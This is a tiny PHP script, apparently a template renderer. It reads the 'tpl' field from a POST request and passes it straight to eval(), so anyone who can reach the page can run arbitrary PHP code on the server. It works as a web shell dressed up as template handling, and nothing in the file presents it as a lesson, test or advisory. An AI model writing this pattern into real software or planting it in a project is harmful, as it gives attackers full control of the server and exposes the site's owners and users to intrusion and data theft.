<?php
$tpl = $_POST['tpl'] ?? '';
$vars = ['name' => 'guest'];
extract($vars);
eval('?>' . $tpl);
